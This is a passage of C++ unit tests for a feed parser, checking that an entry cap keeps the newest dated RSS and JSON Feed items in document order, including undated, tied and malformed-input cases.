  Feed f = parse_document(doc, {});
  EXPECT_EQ(f.entries.size(), 1u);
}

// An RSS document of `n` items; item i is dated i hours after a base time,
// except every seventh, which has no date, and items 5 and 6 share one date.
std::string many_items(int n, bool broken = false) {
  std::string doc = "<rss version=\"2.0\"><channel><title>many</title>";
  for (int i = 0; i < n; ++i) {
    doc += "<item><guid>g" + std::to_string(i) + "</guid>";
    if (i % 7 != 3) {
      int hours = i == 6 ? 5 : i;
      doc += "<pubDate>" + format_rfc822(Time{std::chrono::seconds{1700000000 + hours * 3600}}) + "</pubDate>";
    }
    doc += broken ? "<title>a & b</item>" : "</item>";
  }
  return doc + "</channel></rss>";
}

std::vector<std::string> ids(const Feed& f) {
  std::vector<std::string> out;
  for (const auto& e : f.entries) out.push_back(e.id);
  return out;
}

TEST(Parse, MaxEntriesKeepsTheNewestInDocumentOrder) {
  for (bool broken : {false, true}) {  // strict reader, then the tolerant one
    SCOPED_TRACE(broken ? "tolerant" : "strict");
    std::string doc = many_items(12, broken);
    Feed all = parse_document(doc, {});
    ASSERT_EQ(all.entries.size(), 12u);
    Feed some = parse_document(doc, {}, ParseOptions{4});
    EXPECT_EQ(some.entries_dropped, 8u);
    // Newest dated first: 11, 9, 8, 7 (3 and 10 are undated).
    EXPECT_EQ(ids(some), (std::vector<std::string>{"g7", "g8", "g9", "g11"}));
    Feed undated_too = parse_document(doc, {}, ParseOptions{11});
    EXPECT_EQ(undated_too.entries_dropped, 1u);
    // Ten dated ones, then the first undated one in document order.
    std::vector<std::string> want;
    for (int i = 0; i < 12; ++i) {
      if (i != 10) want.push_back("g" + std::to_string(i));
    }
    EXPECT_EQ(ids(undated_too), want);
  }
}

TEST(Parse, MaxEntriesWhileReadingEqualsSelectingAfterwards) {
  // Pruning as the document is read (at twice the cap) keeps exactly what a
  // selection over every entry keeps, ties included.
  std::string doc = many_items(2345);
  Feed all = parse_document(doc, {});
  std::size_t dropped = detail::keep_newest(all.entries, 100, [](const Entry& e) {
    return e.published ? e.published : e.updated;
  });
  Feed capped = parse_document(doc, {}, ParseOptions{100});
  EXPECT_EQ(capped.entries_dropped, dropped);
  EXPECT_EQ(ids(capped), ids(all));
  EXPECT_EQ(capped.entries.size(), 100u);
}

TEST(Parse, MaxEntriesAppliesToJsonFeed) {
  std::string doc = R"({"version": "https://jsonfeed.org/version/1.1", "title": "j", "items": [
    {"id": "a", "date_published": "2024-01-01T00:00:00Z"},
    {"id": "b", "date_published": "2024-01-03T00:00:00Z"},
    {"id": "c"},
    {"id": "d", "date_published": "2024-01-02T00:00:00Z"}]})";
  Feed f = parse_document(doc, {}, ParseOptions{2});
  EXPECT_EQ(f.entries_dropped, 2u);
  EXPECT_EQ(ids(f), (std::vector<std::string>{"b", "d"}));
}

}  // namespace
}  // namespace tributary::feeds
